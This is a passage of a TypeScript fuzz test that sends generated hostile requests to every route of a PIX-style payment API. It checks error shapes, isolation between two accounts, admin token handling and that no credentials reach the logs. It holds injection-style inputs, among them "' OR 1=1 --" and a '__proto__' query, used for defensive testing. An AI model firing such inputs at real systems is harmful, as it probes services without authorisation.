          // ...and exactly at the limits, in characters that take 1 to 4 bytes (two UTF-16 units for the emoji).
          fc.constantFrom('a', 'ã', '😀', '\u202E', 'e\u0301').map((c) => c.repeat(Math.max(min, 1))),
          fc.constantFrom('a', 'ã', '😀', '\u05D0').map((c) => c.repeat(Math.min(max, 5_000))),
        );
      }
      return fc.oneof(...options);
    }
    case 'integer': {
      const range = fc.integer({ min: schema.minimum ?? -(2 ** 31), max: schema.maximum ?? 2 ** 31 });
      const edges = [schema.minimum, schema.maximum].filter((v): v is number => v !== undefined);
      if (!gen.hostile || edges.length === 0) return range;
      return fc.oneof(range, fc.constantFrom(...edges).chain((edge) => fc.constantFrom(edge - 1, edge, edge + 1)));
    }
    case 'number': {
      const plausible = fc.oneof(fc.constantFrom(0.01, 1, 1.5, 10, 12.34), fc.integer({ min: 1, max: 100_000 }).map((c) => c / 100));
      return gen.hostile ? fc.oneof(plausible, hostileNumber) : plausible;
    }
    case 'boolean':
      return fc.boolean();
    case 'array': {
      const max = schema.maxItems ?? 4;
      return fc.array(field(schema.items ?? {}, name, gen), { maxLength: gen.hostile ? Math.min(max + 1, 6) : Math.min(max, 3) });
    }
    case 'object': {
      const properties = schema.properties ?? {};
      const required = schema.required ?? [];
      const model = Object.fromEntries(Object.entries(properties).map(([key, inner]) => [key, field(inner, key, gen)]));
      const record = fc.record(model, { requiredKeys: required });
      if (!gen.hostile) return record;
      return fc
        .tuple(
          record,
          required.length > 0 ? fc.option(fc.constantFrom(...required), { freq: 6 }) : fc.constant(null),
          fc.option(fc.dictionary(hostileKey, hostileLeaf, { minKeys: 1, maxKeys: 3 }), { freq: 6 }),
        )
        .map(([object, drop, extra]) => {
          const out: Record<string, unknown> = { ...object };
          if (drop !== null) delete out[drop];
          if (extra) for (const [k, v] of Object.entries(extra)) Object.defineProperty(out, k, { value: v, enumerable: true, writable: true, configurable: true });
          return out;
        });
    }
    default:
      return hostileValue;
  }
}

/** A field: what the schema asks for, or (when hostile) now and then anything at all. */
function field(schema: Schema, name: string, gen: Gen): fc.Arbitrary<unknown> {
  if (!gen.hostile) return valid(schema, name, gen);
  return fc.oneof({ weight: 6, arbitrary: valid(schema, name, gen) }, { weight: 1, arbitrary: hostileValue });
}

/** A value as text for a path segment or a query parameter. */
const asText = (value: unknown): string => (typeof value === 'string' ? value : value === undefined ? '' : JSON.stringify(value) ?? String(value));

interface Auth {
  kind: string;
  valid: boolean;
  headers: Record<string, string>;
}

interface Generated {
  method: string;
  url: string;
  headers: Record<string, string>;
  payload: string | undefined;
  /** The payload is bytes (a latin1 string), sent as they are: invalid UTF-8, UTF-16. */
  binary: boolean;
  auth: { kind: string; valid: boolean };
  hostile: boolean;
  /** Path parameter values (decoded), to compare with B's identifiers. */
  pathValues: Record<string, string>;
}

type Body = { payload: string | undefined; contentType: string | undefined; binary?: boolean };
const json = (value: unknown): Body => ({ payload: JSON.stringify(value) ?? 'null', contentType: 'application/json' });
const NO_BODY: Body = { payload: undefined, contentType: undefined };

/** Requests for one operation: half follow its schemas with valid credentials, half are hostile. */
function requestArbitrary(op: Operation, pools: Pools, auths: Auth[]): fc.Arbitrary<Generated> {
  return fc.oneof(oneKind(op, { op, pools, hostile: 0 }, auths), oneKind(op, { op, pools, hostile: 1 }, auths));
}

function oneKind(op: Operation, gen: Gen, auths: Auth[]): fc.Arbitrary<Generated> {
  const pathParams = op.params.filter((p) => p.in === 'path');
  const queryParams = op.params.filter((p) => p.in === 'query');
  const headerParams = op.params.filter((p) => p.in === 'header' && p.name !== 'x-ssl-client-cert');
  const validAuths = auths.filter((x) => x.valid);

  const plainSegment = (p: Param) => valid(p.schema, p.name, gen).map((v) => ({ raw: asText(v), sent: enc(asText(v)) }));
  const segment = (p: Param) =>
    gen.hostile
      ? fc.oneof(
          { weight: 4, arbitrary: plainSegment(p) },
          { weight: 2, arbitrary: hostileString.map((v) => ({ raw: v, sent: enc(v) })) },
          { weight: 1, arbitrary: fc.constantFrom(...RAW_SEGMENTS).map((v) => ({ raw: safeDecode(v), sent: v })) },
          { weight: 1, arbitrary: fc.constantFrom(199, 200, 201, 1_000, 20_000).map((n) => ({ raw: '1'.repeat(n), sent: '1'.repeat(n) })) },
        )
      : plainSegment(p);
  const path = fc.record(Object.fromEntries(pathParams.map((p) => [p.name, segment(p)])));

  const queryValue = (p: Param) =>
    gen.hostile
      ? fc.oneof(
          { weight: 4, arbitrary: valid(p.schema, p.name, gen) },
          { weight: 2, arbitrary: hostileValue },
          { weight: 1, arbitrary: fc.array(valid(p.schema, p.name, gen), { minLength: 2, maxLength: 3 }) },
        )
      : valid(p.schema, p.name, gen);
  const required = queryParams.filter((p) => p.required);
  const declaredQuery = fc.oneof(
    fc.record(Object.fromEntries(queryParams.map((p) => [p.name, queryValue(p)])), { requiredKeys: gen.hostile ? [] : required.map((p) => p.name) }),
    // The required parameters only: lists without filters.
    fc.record(Object.fromEntries(required.map((p) => [p.name, queryValue(p)]))),
  );
  const extraQuery = gen.hostile ? fc.option(fc.dictionary(hostileKey, hostileString, { maxKeys: 3 }), { freq: 3 }) : fc.constant(null);
  const junkQuery = gen.hostile
    ? fc.option(fc.constantFrom('&%', '&a=%ZZ', '&=', '&&&', '&page', '&__proto__[x]=1', '&a[b][c]=1', `&${'x=1&'.repeat(2_000)}`, '&%00=%00', '&size=1e3'), { freq: 4 })
    : fc.constant(null);

  const headerValue = (p: Param) => {
    const pool = gen.pools(p.name, op);
    const plain = fc.oneof(fc.uuid(), pool.length > 0 ? fc.constantFrom(...pool) : fc.uuid());
    return gen.hostile ? fc.oneof({ weight: 2, arbitrary: plain }, { weight: 1, arbitrary: headerText }) : plain;
  };
  const headers = fc.record(Object.fromEntries(headerParams.map((p) => [p.name, headerValue(p)])), { requiredKeys: gen.hostile ? [] : headerParams.map((p) => p.name) });
  const extraHeaders = gen.hostile
    ? fc.option(
        fc.record(
          { 'x-request-id': headerText, accept: fc.constantFrom('application/xml', '*/*', 'text/html', 'image/png'), 'accept-encoding': fc.constantFrom('gzip', 'br', 'identity;q=0') },
          { requiredKeys: [] },
        ),
        { freq: 3 },
      )
    : fc.constant(null);

  const schemaBody = op.body ? valid(op.body, 'body', gen) : fc.constant(undefined);
  const hostileBody: fc.Arbitrary<Body> = fc.oneof(
    { weight: op.body ? 8 : 1, arbitrary: schemaBody.map(json) },
    { weight: 2, arbitrary: hostileValue.map(json) },
    { weight: 1, arbitrary: fc.constantFrom(...RAW_BODIES).map((payload) => ({ payload, contentType: 'application/json' })) },
    { weight: 1, arbitrary: fc.constantFrom(...RAW_BYTES).map((payload) => ({ payload, contentType: 'application/json', binary: true })) },
    {
      weight: 1,
      arbitrary: fc.tuple(schemaBody, fc.constantFrom(...NUMBER_LITERALS)).map(([value, literal]) => ({
        payload: (JSON.stringify(value) ?? 'null').replace(/(:\s*)-?\d+(\.\d+)?([eE][+-]?\d+)?/g, `$1${literal}`).replace(/"(-?[0-9]+\.[0-9]{2})"/g, literal),
        contentType: 'application/json',
      })),
    },
    {
      weight: 1,
      arbitrary: fc.tuple(schemaBody, fc.constantFrom(31, 32, 33, 1_000)).map(([value, depth]) => ({
        payload: JSON.stringify({ ...(value && typeof value === 'object' ? value : {}), deep: JSON.parse(`${'['.repeat(depth)}${']'.repeat(depth)}`) as unknown }),
        contentType: 'application/json',
      })),
    },
    { weight: 1, arbitrary: fc.tuple(schemaBody, fc.constantFrom(...CONTENT_TYPES)).map(([value, contentType]) => ({ payload: JSON.stringify(value) ?? '', contentType })) },
    { weight: 1, arbitrary: fc.constantFrom<Body>(NO_BODY, { payload: undefined, contentType: 'application/json' }, { payload: '{}', contentType: undefined }) },
  );
  const takesBody = Boolean(op.body) && op.method !== 'GET' && op.method !== 'DELETE';
  const body: fc.Arbitrary<Body> = !gen.hostile
    ? takesBody
      ? schemaBody.map(json)
      : fc.constant(NO_BODY)
    : takesBody
      ? hostileBody
      : fc.oneof({ weight: 4, arbitrary: fc.constant(NO_BODY) }, { weight: 1, arbitrary: hostileBody });

  const auth = gen.hostile
    ? fc.oneof({ weight: 1, arbitrary: fc.constantFrom(...validAuths) }, { weight: 2, arbitrary: fc.constantFrom(...auths) })
    : fc.constantFrom(...validAuths);

  return fc
    .record({ auth, path, declaredQuery, extraQuery, junkQuery, headers, extraHeaders, body })
    .map(({ auth: chosen, path: pathValues, declaredQuery: declared, extraQuery: extra, junkQuery: junk, headers: routeHeaders, extraHeaders: more, body: b }) => {
      let url = op.path;
      for (const [name, v] of Object.entries(pathValues)) url = url.replace(`{${name}}`, v.sent);
      const parts: string[] = [];
      for (const [name, value] of Object.entries({ ...declared, ...extra })) {
        for (const v of Array.isArray(value) ? value : [value]) parts.push(`${enc(name)}=${enc(asText(v))}`);
      }
      const search = parts.join('&') + (junk ?? '');
      if (search) url += `?${search}`;
      const sentHeaders: Record<string, string> = { ...(more ?? {}), ...(routeHeaders as Record<string, string>), ...chosen.headers };
      if (b.contentType !== undefined) sentHeaders['content-type'] = b.contentType;
      const generated: Generated = {
        method: op.method,
        url,
        headers: sentHeaders,
        payload: b.payload,
        binary: b.binary === true,
        auth: { kind: chosen.kind, valid: chosen.valid },
        hostile: gen.hostile === 1,
        pathValues: Object.fromEntries(Object.entries(pathValues).map(([k, v]) => [k, v.raw])),
      };
      // Counterexamples print as the request, shortened.
      return Object.defineProperty(generated, fc.toStringMethod, { value: () => describeRequest(generated) });
    });
}

// ---------------------------------------------------------------------------------------------
// Checks
// ---------------------------------------------------------------------------------------------

const short = (text: string | undefined, max = 400) => (text === undefined ? '(none)' : text.length > max ? `${text.slice(0, max)}... (${text.length} chars)` : text);
const describeRequest = (g: Generated) =>
  `${g.method} ${short(g.url, 300)}\n  auth: ${g.auth.kind}\n  headers: ${short(JSON.stringify(Object.fromEntries(Object.entries(g.headers).filter(([k]) => k !== 'authorization' && k !== 'x-ssl-client-cert'))))}\n  payload: ${short(g.payload)}`;

const INTERNALS = /\.ts:\d+|node_modules|SQLSTATE|syntax error at or near|relation "|violates .* constraint|kysely|at async /i;

/** Properties 1 and 2; returns the error message (or null for a success). */
function checkShape(g: Generated, res: LightMyRequestResponse): string | null {
  const context = () => `${describeRequest(g)}\n  -> ${res.statusCode} ${short(res.body)}`;
  assert.ok(res.statusCode < 500, `5xx:\n${context()}`);
  if (res.statusCode < 400) return null;
  // BCB's dialect answers RFC 7807 problems, and only there; the root paths answer the seed's body.
  const bcb = BCB_PATHS.test(g.url);
  assert.match(String(res.headers['content-type']), bcb ? /^application\/(problem\+)?json/ : /^application\/json/, `error content type:\n${context()}`);
  let body: Record<string, unknown>;
  try {
    body = JSON.parse(res.body) as Record<string, unknown>;
  } catch {
    assert.fail(`error body is not JSON:\n${context()}`);
  }
  if (OAUTH_ROUTES.test(g.url) && 'error_description' in body) return checkOAuthShape(body, res, context);
  if (String(res.headers['content-type']).startsWith('application/problem+json')) return checkProblemShape(body, res, context);
  assert.ok(!/^\/v2([/?]|$)/.test(g.url), `the seed's error body under /v2:\n${context()}`);
  assertErrorShape(body, res.statusCode, `:\n${context()}`);
  assert.doesNotMatch(body.message as string, INTERNALS, `internals in the message:\n${context()}`);
  return body.message as string;
}

/** Paths of BCB's dialect: `/v2` and its public payload locations. */
const BCB_PATHS = /^\/(v2|qr)([/?]|$)/;
const PROBLEM_KEYS = new Set(['type', 'title', 'status', 'detail', 'correlationId', 'violacoes']);

/** An RFC 7807 problem with one of BCB's types, its title and the HTTP status; a 401 says how to authenticate. */
function checkProblemShape(body: Record<string, unknown>, res: LightMyRequestResponse, context: () => string): string {
  for (const key of Object.keys(body)) assert.ok(PROBLEM_KEYS.has(key), `problem key ${key}:\n${context()}`);
  assert.equal(body.status, res.statusCode, `problem status:\n${context()}`);
  const type = String(body.type);
  assert.ok(type.startsWith(PROBLEM_TYPE_BASE), `problem type ${type}:\n${context()}`);
  const name = type.slice(PROBLEM_TYPE_BASE.length);
  assert.ok(Object.hasOwn(PROBLEM_TYPES, name), `problem type ${name} is not BCB's:\n${context()}`);
  assert.equal(body.title, PROBLEM_TYPES[name as keyof typeof PROBLEM_TYPES].title, `problem title:\n${context()}`);
  assert.equal(body.correlationId, res.headers['x-request-id'], `correlationId:\n${context()}`);
  if (body.violacoes !== undefined) assert.ok(Array.isArray(body.violacoes) && body.violacoes.length > 0, `violacoes:\n${context()}`);
  if (res.statusCode === 401) assert.match(String(res.headers['www-authenticate']), /^Bearer /, `401 without WWW-Authenticate: Bearer:\n${context()}`);
  const detail = String(body.detail ?? '');
  assert.doesNotMatch(detail, INTERNALS, `internals in the detail:\n${context()}`);
  // BCB's dialect speaks Portuguese: the detail and every violation's reason.
  const said = [detail, ...((body.violacoes as { razao?: string }[] | undefined) ?? []).map((v) => v.razao ?? '')];
  for (const sentence of said) assert.doesNotMatch(wordsOf(sentence), ENGLISH, `English in a /v2 problem: ${sentence}\n${context()}`);
  return detail;
}

/** A sentence's words, without what it quotes of the request (paths, fields, values, patterns, codes). */
const wordsOf = (sentence: string) =>
  sentence
    .split(/\s+/)
    .filter((token) => /^[\p{L}]+[,.:;)]?$/u.test(token))
    .join(' ');

/** The token routes answer an OAuth 2.0 request (a form, or a body with grant_type) with RFC 6749 §5.2 errors. */
const OAUTH_ROUTES = /^\/(api\/auth|oauth)\/token(\?|$)/;
const OAUTH_ERRORS = ['invalid_request', 'invalid_client', 'invalid_grant', 'unauthorized_client', 'unsupported_grant_type', 'invalid_scope', 'temporarily_unavailable'];

function checkOAuthShape(body: Record<string, unknown>, res: LightMyRequestResponse, context: () => string): string {
  assert.deepEqual(Object.keys(body).sort(), ['error', 'error_description'], `OAuth error body keys:\n${context()}`);
  assert.ok(OAUTH_ERRORS.includes(body.error as string), `OAuth error ${String(body.error)}:\n${context()}`);
  if (res.statusCode === 401) assert.match(String(res.headers['www-authenticate']), /^Basic /, `401 without WWW-Authenticate: Basic:\n${context()}`);
  const description = body.error_description as string;
  assert.ok(typeof description === 'string' && description.length > 0, `error_description:\n${context()}`);
  assert.doesNotMatch(description, INTERNALS, `internals in the description:\n${context()}`);
  return description;
}

interface Coverage {
  reached: Map<string, number>;
  succeeded: Map<string, number>;
  statuses: Map<string, Map<number, number>>;
}
/** Counts the answer; true when the request reached the operation's route (not a 404 of the router, or a URL refused before routing). */
function record(coverage: Coverage, op: Operation, res: Answer, message: string | null, g?: Generated) {
  if (process.env.HOSTILE_VERBOSE && g && !g.hostile && res.statusCode >= 400) console.error(`${op.key} ${res.statusCode} ${message} <- ${short(g.url, 200)} ${short(g.payload, 200)}`);
  const statuses = coverage.statuses.get(op.key) ?? new Map<number, number>();
  statuses.set(res.statusCode, (statuses.get(res.statusCode) ?? 0) + 1);
  coverage.statuses.set(op.key, statuses);
  if (res.route !== op.path.replace(/\{([^}]+)\}/g, ':$1')) return false;
  coverage.reached.set(op.key, (coverage.reached.get(op.key) ?? 0) + 1);
  if (res.statusCode < 300) coverage.succeeded.set(op.key, (coverage.succeeded.get(op.key) ?? 0) + 1);
  return true;
}

/** `text` names `id` as a whole token (B's transaction 16 is not named by an amount of 1600). */
const mentions = (text: string, id: string) =>
  new RegExp(`(^|[^0-9A-Za-z])${id.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}${/^\d+$/.test(id) ? '([^0-9]|$)' : ''}`).test(text);

/** FC_SEED plus a hash of the operation: each operation draws its own values, all from one seed. */
function operationSeed(op: Operation): number {
  let hash = 0x811c9dc5;
  for (const ch of op.key) hash = Math.imul(hash ^ ch.charCodeAt(0), 0x01000193);
  return (SEED + hash) | 0;
}

/** The route that answered the request in flight (requests are sent one at a time), set by an onSend hook. */
let routed: string | undefined;
type Answer = LightMyRequestResponse & { route: string | undefined };
/** No request may hold the event loop this long (a token request costs a scrypt, about 0.1-0.3 s). */
const SLOW_MS = 5_000;

async function inject(t: TestApp, g: Generated): Promise<Answer> {
  routed = undefined;
  const started = performance.now();
  const payload = g.payload === undefined ? {} : { payload: g.binary ? Buffer.from(g.payload, 'latin1') : g.payload };
  const res = await t.app.inject({ method: g.method as 'GET', url: g.url, headers: g.headers, ...payload });
  const elapsed = performance.now() - started;
  assert.ok(elapsed < SLOW_MS, `${Math.round(elapsed)} ms for:\n${describeRequest(g)}\n  -> ${res.statusCode}`);
  return Object.assign(res, { route: routed });
}

// ---------------------------------------------------------------------------------------------
// The tests
// ---------------------------------------------------------------------------------------------

describe('hostile input against every route of openapi.json', { timeout: 600_000 }, () => {
  let t: TestApp;
  let world: World;
  const coverage: Coverage = { reached: new Map(), succeeded: new Map(), statuses: new Map() };
  /** B identifiers that A has used in a request that succeeded (A may now own something by that name). */
  const tainted = new Set<string>();

  /** Runs a property over an operation's requests, with a seed of its own derived from FC_SEED. */
  async function check<T>(op: Operation, arbitrary: fc.Arbitrary<T>, predicate: (value: T) => Promise<void>, numRuns = RUNS): Promise<void> {
    const seed = operationSeed(op);
    try {
      await fc.assert(fc.asyncProperty(arbitrary, predicate), { seed, numRuns });
    } catch (error) {
      throw new Error(`${op.key} failed with FC_SEED=${SEED} (operation seed ${seed}; FC_RUNS=${RUNS})`, { cause: error });
    }
  }

  before(async () => {
    // Generated transfers mostly name keys that do not exist: a bucket of directory look-ups big
    // enough that they still reach the database however many runs FC_RUNS asks for.
    t = await startTestApp({ clock: new ManualClock(new Date()), env: { WEBHOOK_ALLOW_PRIVATE: 'true', DIRECTORY_CPF_TOKENS: '1000000' }, captureLogs: true });
    t.app.addHook('onSend', async (request) => {
      routed = request.routeOptions.url;
    });
    world = await seed(t);
  });
  after(() => t?.close());

  it('documents only routes the app serves', () => {
    assert.ok(OPERATIONS.length >= 40, `${OPERATIONS.length} operations`);
    for (const op of OPERATIONS) {
      assert.ok(t.app.hasRoute({ method: op.method as 'GET', url: op.path.replace(/\{([^}]+)\}/g, ':$1') }), op.key);
    }
  });

  for (const op of OPERATIONS.filter((o) => o.security === 'none')) {
    it(`${op.key}: public route, tokens only for one account's credentials and certificate`, async () => {
      const pools = poolsFor(world, 'account', t.clock.now());
      const { a, b } = world;
      const credentialPools: Pools = (name, o) =>
        name === 'clientId' ? [a.client.clientId, b.client.clientId] : name === 'clientSecret' ? [a.client.clientSecret, b.client.clientSecret] : pools(name, o);
      const owned = world.certHeaders.filter((c) => c.owner !== null);
      const certified = fc
        .tuple(
          requestArbitrary(op, credentialPools, [{ kind: 'no token', valid: true, headers: {} }]),
          fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...owned) }, { weight: 2, arbitrary: fc.constantFrom(...world.certHeaders) }),
        )
        .map(([g, cert]) => {
          const headers = { ...g.headers };
          if (cert.header !== undefined) headers['x-ssl-client-cert'] = cert.header;
          return { g: { ...g, headers, auth: { kind: cert.kind, valid: true } }, cert };
        });
      // Token requests cost a scrypt each: fewer of them.
      await check(
        op,
        certified,
        async ({ g, cert }) => {
          const res = await inject(t, g);
          record(coverage, op, res, checkShape(g, res), g);
          // Only the token routes answer a token (a payload location answers a JWS, not JSON).
          if (res.statusCode >= 300 || !String(res.headers['content-type']).startsWith('application/json')) return;
          const token = (JSON.parse(res.body) as { access_token?: string }).access_token;
          if (token === undefined) return;
          const sent = JSON.parse(g.payload ?? '{}') as { clientId?: string; clientSecret?: string };
          const owner = sent.clientId === a.client.clientId ? 'a' : sent.clientId === b.client.clientId ? 'b' : null;
          assert.ok(owner !== null, `token for an unknown client:\n${describeRequest(g)}`);
          const party = world[owner];
          assert.equal(sent.clientSecret, party.client.clientSecret, `token with a wrong secret:\n${describeRequest(g)}`);
          assert.equal(cert.owner, owner, `token with another account's certificate (${cert.kind}):\n${describeRequest(g)}`);
          const claims = JSON.parse(Buffer.from(token.split('.')[1]!, 'base64url').toString()) as { sub: string };
          assert.equal(claims.sub, String(party.client.accountId));
        },
        op.body ? Math.ceil(RUNS * 0.7) : Math.ceil(RUNS / 3),
      );
    });
  }

  for (const op of OPERATIONS.filter((o) => o.security === 'bearer')) {
    it(`${op.key}: account A, never B's data`, async () => {
      const pools = poolsFor(world, 'account', t.clock.now());
      const { b } = world;
      const bTransactionRefs = [...b.transactionIds, ...b.e2es, ...b.externalIds, ...b.txids];
      const bIdsFor = (name: string): string[] => {
        if (name === 'e2eid') return b.e2es;
        if (name === 'txid') return b.txids;
        if (name === 'id' && op.path.includes('/devolucao/')) return b.refundIds;
        if (name === 'id' && op.path.startsWith('/v2/loc/')) return b.locIds;
        if (name === 'chave') return b.keys;
        if (name === 'id' && op.path.includes('/webhooks/')) return b.webhookIds;
        if (name === 'id' || name === 'identifier' || name === 'transactionIdentifier') return bTransactionRefs;
        return [];
      };
      await check(op, requestArbitrary(op, pools, world.accountAuth), async (g) => {
        const res = await inject(t, g);
        const reached = record(coverage, op, res, checkShape(g, res), g);
        const context = () => `${describeRequest(g)}\n  -> ${res.statusCode} ${short(res.body)}`;
        if (!g.auth.valid && reached) {
          assert.ok(res.statusCode === 400 || res.statusCode === 401, `not refused without valid credentials:\n${context()}`);
        }
        // Nothing of B's that A did not name itself...
        const requestText = `${g.url} ${safeDecode(g.url)} ${JSON.stringify(g.headers)} ${g.payload ?? ''}`;
        const responseText = `${res.body} ${JSON.stringify(res.headers)}`;
        for (const secret of world.bSecrets) {
          if (responseText.includes(secret) && !requestText.includes(secret) && !tainted.has(secret)) {
            assert.fail(`B's ${JSON.stringify(secret)} answered to A:\n${context()}`);
          }
        }
        if (res.statusCode >= 300) return;
        // ...and no success for B's identifiers in the path, unless A made something of its own by that
        // name: a PUT that creates names its resource in the last path segment (the refund id of A's
        // own PIX may well be B's refund id).
        const named = Object.keys(g.pathValues).at(-1);
        if (g.method === 'PUT' && res.statusCode === 201 && named !== undefined) tainted.add(g.pathValues[named]!);
        for (const [name, value] of Object.entries(g.pathValues)) {
          if (bIdsFor(name).includes(value) && !tainted.has(value)) assert.fail(`2xx for B's ${name} ${value}:\n${context()}`);
        }
        // What A wrote successfully is A's from now on (an externalId of A's transfer may be B's txid).
        if (g.method !== 'GET') for (const id of [...bTransactionRefs, ...b.refundIds, ...b.webhookIds, ...world.bSecrets]) if (mentions(requestText, id)) tainted.add(id);
      });
    });
  }

  for (const op of OPERATIONS.filter((o) => o.security === 'admin')) {
    it(`${op.key}: operator only`, async () => {
      const pools = poolsFor(world, 'admin', t.clock.now());
      const bearer = (token: string) => ({ authorization: `Bearer ${token}` });
      const adminAuth: Auth[] = [
        { kind: 'admin token', valid: true, headers: adminHeaders },
        { kind: 'admin token, lower-case scheme, two spaces', valid: true, headers: { authorization: `bearer  ${TEST_ADMIN_TOKEN}` } },
        { kind: 'no token', valid: false, headers: {} },
        { kind: 'A account token and certificate', valid: false, headers: world.a.client.headers },
        { kind: 'admin token plus a character', valid: false, headers: bearer(`${TEST_ADMIN_TOKEN}x`) },
        { kind: 'admin token prefix', valid: false, headers: bearer(TEST_ADMIN_TOKEN.slice(0, -1)) },
        { kind: 'admin token upper-cased', valid: false, headers: bearer(TEST_ADMIN_TOKEN.toUpperCase()) },
        { kind: 'admin token as basic', valid: false, headers: { authorization: `Basic ${Buffer.from(`admin:${TEST_ADMIN_TOKEN}`).toString('base64')}` } },
        { kind: 'admin token without scheme', valid: false, headers: { authorization: TEST_ADMIN_TOKEN } },
        { kind: 'admin token in another header', valid: false, headers: { 'x-admin-token': TEST_ADMIN_TOKEN } },
        { kind: 'garbage', valid: false, headers: { authorization: "Bearer ' OR 1=1 --" } },
        { kind: 'empty bearer', valid: false, headers: { authorization: 'Bearer ' } },
        { kind: 'huge token', valid: false, headers: bearer('a'.repeat(5_000)) },
        { kind: 'unicode token', valid: false, headers: { authorization: 'Bearer \u00e9\u00ff' } },
      ];
      await check(op, requestArbitrary(op, pools, adminAuth), async (g) => {
        const res = await inject(t, g);
        const reached = record(coverage, op, res, checkShape(g, res), g);
        if (!g.auth.valid && reached) {
          assert.equal(res.statusCode, 401, `not 401 without the admin token:\n${describeRequest(g)}\n  -> ${res.statusCode} ${short(res.body)}`);
          assert.match(String(res.headers['www-authenticate']), /^Bearer /);
        }
      });
    });
  }

  it('exercised every operation of openapi.json', (ctx) => {
    const missing = OPERATIONS.filter((op) => !coverage.reached.get(op.key)).map((op) => op.key);
    assert.deepEqual(missing, [], 'operations no generated request reached');
    for (const op of OPERATIONS) {
      const statuses = [...(coverage.statuses.get(op.key) ?? new Map<number, number>()).entries()].sort(([x], [y]) => x - y);
      ctx.diagnostic(`${op.key}: reached ${coverage.reached.get(op.key) ?? 0}, 2xx ${coverage.succeeded.get(op.key) ?? 0}; ${statuses.map(([s, n]) => `${s}x${n}`).join(' ')}`);
    }
    ctx.diagnostic(`FC_SEED=${SEED}, FC_RUNS=${RUNS}`);
  });

  it('logged no credentials and no unexpected error', () => {
    const all = t.logs.join('\n');
    for (const party of [world.a, world.b]) {
      for (const secret of [party.client.token, party.client.token.split('.')[2]!, party.client.clientSecret, party.client.cert.header.slice(60, 120)]) {
        assert.ok(!all.includes(secret), 'a credential reached the logs');
      }
    }
    // The database refusing a value is answered 400 by a safety net; here it would mean validation let something through.
    const complaints = t.logs
      .map((line) => JSON.parse(line) as { level: number; msg?: string; err?: { message?: string } })
      .filter((entry) => entry.level >= 40)
      .map((entry) => `${entry.msg} ${entry.err?.message ?? ''}`);
    assert.deepEqual(complaints, []);
  });
});
